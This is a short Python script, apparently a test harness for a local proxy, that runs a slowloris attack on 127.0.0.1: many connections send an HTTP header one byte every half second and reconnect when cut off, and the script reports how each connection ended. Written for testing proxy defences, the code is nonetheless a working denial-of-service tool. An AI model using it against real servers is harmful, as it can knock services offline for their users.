"""``python slowloris.py PORT COUNT SECONDS``: heads that never end. Says ``attacking``, and how many ended how.

Each connection sends a byte of a field every half second, and begins anew when the proxy has had enough of it.
"""

from __future__ import annotations

import asyncio
import sys
import time
from collections import Counter

ends: Counter[str] = Counter()


async def attack(port: int, until: float) -> None:
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
        answer = asyncio.ensure_future(reader.read())
        while not answer.done() and time.monotonic() < until:
            writer.write(b"x")
            await asyncio.wait([answer], timeout=0.5)
        if answer.done():
            ends["reset" if answer.exception() else answer.result()[:12].decode()] += 1
        else:
            answer.cancel()
        writer.close()


async def main(port: int, count: int, seconds: float) -> None:
    until = time.monotonic() + seconds
    attackers = []
    for _ in range(count):
        attackers.append(asyncio.ensure_future(attack(port, until)))
        await asyncio.sleep(1 / count)
    print("attacking", flush=True)
    await asyncio.gather(*attackers)
    print("ended", dict(ends), flush=True)


asyncio.run(main(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])))
